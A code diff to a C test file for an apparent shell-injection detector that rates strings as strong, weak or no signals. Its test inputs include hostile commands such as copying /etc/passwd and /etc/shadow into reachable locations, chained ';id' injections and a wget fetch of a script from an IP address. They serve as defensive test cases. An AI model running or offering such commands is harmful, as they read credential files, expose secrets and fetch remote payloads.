@@ -275,7 +275,7 @@ static void values_alone(void)
     WEAK("rsync from /home to D:\\backup");
     NONE("cp the notes to ./docs");      /* a path, not a system one */
     STRONG("cp /etc/passwd /var/www/html/p.txt", "sh:cp");
-    STRONG("cp -r the /etc /tmp/x", "sh:cp");
+    WEAK("cp -r the /etc /tmp/x");  /* typed alone, no secret named */
     STRONG("cat /etc/passwd > to", "sh:cat");
     STRONG("; cp the /etc/shadow to /tmp", "sh:;cp");
     STRONG("x && move the file to c:\\windows", "move");
@@ -552,7 +552,9 @@ static void benign(void)
     NONE("<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>sudo systemctl "
          "restart php8.2-fpm</code></pre>\n<!-- /wp:code -->");
     WEAK("x\n<p>echo is not working, it prints $HOME literally</p>");
+    WEAK("x\n<pre><code>ls -la /var/www/html | grep wp-config</code></pre>");
     STRONG("x\n<b>id", "sh:\\nid");
+    STRONG("x\n<b>ls -la</b>\n;id", "sh:;id");
     STRONG("x\n<code>cat /etc/passwd</code>", "sh:\\ncat");
     STRONG("x\n<b>wget http://198.51.100.7/x.sh</b>", "wget");
 }
